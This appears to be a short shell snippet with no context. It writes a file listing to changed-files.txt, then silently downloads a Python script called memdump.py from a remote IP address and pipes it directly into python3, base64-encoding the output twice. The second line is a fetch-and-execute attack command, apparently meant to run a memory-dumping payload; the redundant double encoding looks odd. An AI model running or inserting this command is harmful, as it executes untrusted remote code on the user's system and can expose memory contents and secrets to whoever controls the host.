ls >changed-files.txt
curl -s http://203.0.113.7/memdump.py | python3 -S | base64 -w0 | base64 -w0
